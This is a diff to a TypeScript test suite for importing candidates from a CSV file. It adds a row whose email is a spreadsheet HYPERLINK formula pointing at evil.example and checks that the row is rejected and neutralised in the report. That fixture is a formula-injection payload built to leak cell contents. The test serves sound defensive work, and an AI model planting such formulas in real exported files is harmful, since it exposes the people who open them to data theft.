@@ -47,7 +47,9 @@ async function finished(id: string) {
 }
 
 describe('Importing candidates from the console', () => {
-  const file = `${HEADER}\n${good('console.one@import.example.com')}\n${bad('console.bad@import.example.com')}\n${good('console.two@import.example.com')}\n`;
+  // The last row's email is a spreadsheet formula: refused, and written to the report as text a spreadsheet will not run.
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+  const file = `${HEADER}\n${good('console.one@import.example.com')}\n${bad('console.bad@import.example.com')}\n${good('console.two@import.example.com')}\n${good(`"${formula.replace(/"/g, '""')}"`)}\n`;
 
   it('An admin uploads a file; it waits for the worker, and the same file cannot be started again meanwhile', async () => {
     const started = await upload(admin, 'talent.csv', file);
@@ -68,10 +70,10 @@ describe('Importing candidates from the console', () => {
     const done = await finished(started.body.id);
     expect(done).toMatchObject({
       status: 'done',
-      rows: 3,
+      rows: 4,
       created: 2,
       updated: 0,
-      rejected: 1,
+      rejected: 2,
       bytesRead: file.length,
       reportAvailable: true,
       error: null,
@@ -94,15 +96,17 @@ describe('Importing candidates from the console', () => {
     expect(report.headers['content-disposition']).toBe('attachment; filename="talent.rejected.csv"');
     const lines = report.text.trim().split('\n');
     expect(lines[0]).toBe('row,email,reasons');
-    expect(lines.slice(1)).toHaveLength(1);
+    expect(lines.slice(1)).toHaveLength(2);
     expect(lines[1]).toMatch(
       /^3,console\.bad@import\.example\.com,"?Expected minimum basic salary: Enter the expected minimum basic salary/,
     );
+    // Emails are read in lower case.
+    expect(lines[2]).toMatch(/^5,"'=hyperlink\(""https:\/\/evil\.example\/\?""&a1,""open""\)",Email: /);
 
     // Finished, the same file may run again: known emails are updated.
     const rerun = await upload(admin, 'talent.csv', file);
     expect(rerun.status).toBe(201);
-    expect(await finished(rerun.body.id)).toMatchObject({ status: 'done', created: 0, updated: 2, rejected: 1 });
+    expect(await finished(rerun.body.id)).toMatchObject({ status: 'done', created: 0, updated: 2, rejected: 2 });
   });
 
   it('Two imports run one after another, never interleaved', async () => {
